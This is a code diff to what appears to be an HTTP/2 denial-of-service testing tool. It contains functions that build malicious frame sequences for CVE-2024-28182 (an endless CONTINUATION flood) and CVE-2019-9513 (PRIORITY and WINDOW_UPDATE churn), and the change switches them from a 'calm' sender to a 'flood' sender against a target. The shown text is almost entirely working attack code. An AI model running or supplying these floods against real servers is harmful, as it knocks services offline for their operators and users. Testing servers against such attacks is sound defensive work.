@@ -4,7 +4,7 @@ import struct
 import time
 
 from h2_peer import WINDOW_UPDATE, long_field
-from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, H2, PING, SETTINGS, calm, data, field, frame, ping, priority, rst,
+from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, H2, PING, SETTINGS, data, field, flood, frame, ping, priority, rst,
                   settings, window)
 from registry import attack
 
@@ -55,7 +55,7 @@ def continuation_flood(target):
     """CVE-2024-28182: a head that never ends."""
     block = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/'), (':authority', 'a')))
     first = frame(HEADERS, END_STREAM, 1, block)
-    return calm(target, first + frame(CONTINUATION, 0, 1, b'') * 50 + frame(CONTINUATION, 0, 1, long_field('x', 16000)) * 20, rounds=1)
+    return flood(target, first + frame(CONTINUATION, 0, 1, b'') * 50 + frame(CONTINUATION, 0, 1, long_field('x', 16000)) * 20, rounds=1)
 
 
 @attack(quick=2.5)
@@ -133,7 +133,7 @@ def empty_frames(target):
 def priority_and_window_churn(target):
     """CVE-2019-9513: PRIORITY and WINDOW_UPDATE without end, and frames of types that nobody knows."""
     octets = b''.join(priority(s, s - 1 or 9) for s in range(1, 2000, 2)) + window(0, 1) * 1000 + frame(0xfa, 0, 0, bytes(8)) * 1000
-    return calm(target, octets)
+    return flood(target, octets)
 
 
 @attack(quick=2.5)
